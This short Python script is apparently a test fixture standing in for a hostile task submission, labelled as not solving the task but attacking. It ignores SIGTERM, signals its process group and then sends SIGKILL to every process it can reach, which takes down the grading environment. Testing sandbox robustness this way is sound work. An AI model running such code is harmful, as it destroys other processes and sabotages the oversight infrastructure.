"""Does not solve the task, and attacks instead."""

import os
import signal


def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(0, signal.SIGTERM)
    os.kill(-1, signal.SIGKILL)


if __name__ == "__main__":
    attack()
    print("no idea")
